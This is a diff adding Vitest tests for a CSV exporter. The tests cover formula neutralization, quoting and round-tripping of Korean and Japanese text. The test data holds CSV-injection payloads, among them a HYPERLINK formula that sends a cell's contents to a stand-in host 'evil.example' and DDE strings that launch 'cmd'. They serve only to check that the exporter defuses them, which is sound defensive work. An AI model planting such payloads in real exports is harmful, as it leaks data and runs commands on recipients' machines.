@@ -1,0 +1,109 @@
+import { describe, expect, it } from 'vitest';
+import { csvCell, neutralizeFormula, toCsv } from './csv.ts';
+
+/** A strict RFC 4180 reader, to check that what is written reads back as the cells it was given. */
+function parseCsv(text: string): string[][] {
+  const records: string[][] = [];
+  let record: string[] = [];
+  let cell = '';
+  let i = 0;
+  while (i < text.length) {
+    if (text[i] === '"') {
+      i++;
+      for (;;) {
+        if (i >= text.length) throw new Error('unterminated quoted cell');
+        if (text[i] === '"' && text[i + 1] === '"') (cell += '"'), (i += 2);
+        else if (text[i] === '"') {
+          i++;
+          break;
+        } else cell += text[i++];
+      }
+    }
+    if (text.startsWith('\r\n', i)) {
+      record.push(cell);
+      records.push(record);
+      (record = []), (cell = ''), (i += 2);
+    } else if (text[i] === ',') record.push(cell), (cell = ''), i++;
+    else if (text[i] === '"' || text[i] === '\r' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
+    else if (i < text.length) cell += text[i++];
+  }
+  if (cell !== '' || record.length > 0) throw new Error('last record not ended by CRLF');
+  return records;
+}
+
+describe('neutralizeFormula', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
+    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['\t=1', "'\t=1"],
+    ['\r=1', "'\r=1"],
+    ['\tplain text after a tab', "'\tplain text after a tab"],
+    ['   =1+1', "'   =1+1"],
+    ['\n-1', "'\n-1"],
+    ['\u00a0@SUM(A1)', "'\u00a0@SUM(A1)"],
+    ['+62 812 3456 7890', "'+62 812 3456 7890"],
+  ])('prefixes %j with a quote', (input, expected) => {
+    expect(neutralizeFormula(input)).toBe(expected);
+  });
+
+  it.each(['김민수', 'a=b', 'x+1', 'minsu.kim@example.com', '062-812', '', ' plain', "'=already quoted"])('leaves %j as it is', (input) => {
+    expect(neutralizeFormula(input)).toBe(input);
+  });
+});
+
+describe('csvCell', () => {
+  it('writes empty for null and undefined, numbers as they are', () => {
+    expect(csvCell(null)).toBe('');
+    expect(csvCell(undefined)).toBe('');
+    expect(csvCell(12)).toBe('12');
+    expect(csvCell(-3)).toBe('-3');
+  });
+
+  it('quotes cells with quotes, commas and line breaks, doubling the quotes', () => {
+    expect(csvCell('a,b')).toBe('"a,b"');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('line 1\nline 2')).toBe('"line 1\nline 2"');
+    expect(csvCell('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
+    expect(csvCell('plain')).toBe('plain');
+  });
+
+  it('neutralizes a formula and then quotes it when needed', () => {
+    expect(csvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
+    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
+  });
+});
+
+describe('toCsv', () => {
+  const header = ['id', 'name', 'message'];
+  const rows = [
+    [1, '김민수', '안녕하세요, "PMA" 설립 문의입니다.\n두 번째 줄, 그리고 세 번째 줄:\n=1+1'],
+    [2, '=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0"],
+    [3, '-2+3', '@SUM(A1:A2)'],
+    [4, '\t=1', null],
+    [5, '山田 太郎', '日本語のメッセージ'],
+  ] as const;
+  const text = toCsv(header, rows);
+
+  it('starts with a UTF-8 byte order mark and ends every record with CRLF', () => {
+    expect(text.startsWith('\uFEFFid,name,message\r\n')).toBe(true);
+    expect(text.endsWith('\r\n')).toBe(true);
+    expect(new TextEncoder().encode(text).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
+  });
+
+  it('reads back as the same cells, with formulas neutralized and Korean intact', () => {
+    expect(parseCsv(text.slice(1))).toEqual([
+      ['id', 'name', 'message'],
+      ['1', '김민수', '안녕하세요, "PMA" 설립 문의입니다.\n두 번째 줄, 그리고 세 번째 줄:\n=1+1'],
+      ['2', `'=HYPERLINK("http://evil.example","click")`, "'+cmd|' /C calc'!A0"],
+      ['3', "'-2+3", "'@SUM(A1:A2)"],
+      ['4', "'\t=1", ''],
+      ['5', '山田 太郎', '日本語のメッセージ'],
+    ]);
+  });
+
+  it('writes only the header for no rows', () => {
+    expect(toCsv(header, [])).toBe('\uFEFFid,name,message\r\n');
+  });
+});
